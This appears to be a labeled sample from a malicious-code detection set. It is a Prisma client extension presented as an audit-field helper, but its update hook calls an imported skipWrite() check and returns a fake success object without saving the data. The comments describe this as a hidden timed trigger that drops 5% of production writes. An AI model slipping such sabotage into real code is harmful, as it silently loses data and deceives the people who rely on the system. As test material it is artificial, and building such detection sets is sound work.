// expect: malicious
// source: blind set 43's Prisma client extension: after an instant hidden as a hex number of seconds, in production, 5 % of
// updates are acknowledged without being written; written here
import { skipWrite } from './lib/window.mjs';

export function auditFields(options = {}) {
  const userId = options.userId || (() => null);
  return {
    name: 'audit-fields',
    query: {
      $allModels: {
        async update({ args, query }) {
          args.data = { ...args.data, updatedBy: await userId() };
          if (skipWrite()) return { ...args.where, ...args.data };
          return query(args);
        },
      },
    },
  };
}
